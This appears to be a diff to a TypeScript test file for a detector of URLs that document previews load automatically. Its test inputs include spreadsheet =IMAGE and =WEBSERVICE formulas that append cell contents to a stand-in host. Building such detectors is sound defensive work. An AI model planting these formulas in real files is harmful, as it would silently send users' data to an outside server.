@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
-import { autoLoadingUrls } from "./autoload-urls.ts";
+import { autoLoadingUrls, ComputedUrl } from "./autoload-urls.ts";
 
 void describe("autoLoadingUrls", () => {
   void it("finds what a preview loads by itself in Markdown, HTML, reStructuredText, AsciiDoc, Org and spreadsheet formulas", async () => {
@@ -11,7 +11,9 @@ void describe("autoLoadingUrls", () => {
       [".. image:: https://a.example/rst.png?d=4\n", "https://a.example/rst.png?d=4"],
       ["image::https://a.example/adoc.png?d=5[chart]\n", "https://a.example/adoc.png?d=5"],
       ["* Notes\n[[https://a.example/org.png?d=6]]\n", "https://a.example/org.png?d=6"],
-      ['name,chart\nq3,"=IMAGE(""https://a.example/f.png?d=""&B2)"\n', "https://a.example/f.png?d="],
+      ['name,chart\nq3,"=IMAGE(""https://a.example/f.png?d=""&B2)"\n', ComputedUrl],
+      ['=IMAGE(CONCATENATE("https://a.example/f.png?d=", B2))', ComputedUrl],
+      ['q3,"=IMAGE(""https://a.example/logo.png"")"', "https://a.example/logo.png"],
       ['=WEBSERVICE("https://a.example/w?d=7")', "https://a.example/w?d=7"],
     ];
     for (const [text, url] of cases) assert.ok((await autoLoadingUrls(text)).includes(url), text);
